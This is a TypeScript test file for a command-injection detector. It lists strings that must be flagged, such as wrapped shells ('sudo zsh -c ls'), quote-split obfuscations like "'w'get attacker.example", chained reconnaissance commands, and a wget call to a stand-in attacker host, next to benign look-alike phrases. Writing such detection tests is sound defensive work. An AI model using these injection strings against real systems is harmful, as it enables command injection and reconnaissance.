import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { decodeValue } from '../../../src/threat/decode/normalize.js';
import { detectCmdi } from '../../../src/threat/detectors/cmdi.js';

const score = (s: string) => detectCmdi(decodeValue(s)).confidence;
const flags = (list: string[]) => { for (const a of list) it(`flags ${JSON.stringify(a)}`, () => assert.ok(score(a) >= 0.8, `${a}: ${score(a)}`)); };
const leaves = (list: string[]) => { for (const b of list) it(`does not flag ${JSON.stringify(b)}`, () => assert.ok(score(b) < 0.8, `${b}: ${score(b)}`)); };

describe('wrappers and their commands', () => {
  describe('a shell given a command string', () => {
    flags(['time bash -c id', 'nohup sh -c "uname -a"', 'sudo zsh -c ls', 'strace dash -c whoami']);
    leaves(['time sh', 'time bash party', 'time sh -c']);
  });
  describe('a firm or disguised wrapper running an English-word command', () => {
    flags(['strace who', 'nohup sleep 9', "t'i'me w", 'sudo id']);
    leaves(['time who knows', 'time will tell', 'sudo make me a sandwich', 'time cat videos']);
  });
  describe('a wrapper whose command has only a host name left', () => {
    flags(['time curl example.org', 'nohup wget attacker.example:8080/', 'time nslookup internal.corp']);
    leaves(['time curl example.org was slow', 'time wget vs curl.com', 'time curling.example.org']);
  });
  describe('wrappers with options before the command', () => {
    flags(['cpulimit -l 50 -f ps', 'flock -n /tmp/l uname -a', 'ionice -c3 tar cf /tmp/a.tar /etc', 'chroot / bash']);
    leaves(['a flock of sheep', 'a flock -- of sheep', 'nice one', 'watch the video']);
  });
});

describe('a split spelling of a command that is no English word', () => {
  flags(["'w'get attacker.example", 'w\\get x.example', "n\"s\"lookup corp", "'who'ami"]);
  leaves(["'cat' food", "don't 'curl' hair", "'wget' is a tool", "the 'ls' command lists files"]);
});

describe('a command chained by an operator at the start of the value', () => {
  flags(['whoami;x', 'uname|base64', 'netstat&&x', 'ifconfig;0\'0\'"']);
  leaves(['whoami', 'whoami; ', 'whoami lyrics', 'ping;pong']);
});

describe('a command word, one or two targets, then options', () => {
  flags(['ansible all -m shell', 'kubectl get pods -n kube-system', 'terraform apply -auto-approve', 'x; rsync remote:/srv -av']);
  leaves(['docker build fails with --no-cache option', 'kubectl is great -- really', 'ansible playbooks', 'terraform plan output is long',
    'rsync backups nightly']);
});

describe('directory-stack expansion ~+N / ~-N as a command', () => {
  flags(['x;~+', 'a&&~-2', '`~+1`', 'y|~-0']);
  leaves(['~+1', 'approx ~-3 dB', '| ~+1 |', 'delta ~+5%', 'x; ~+2 points']);
});
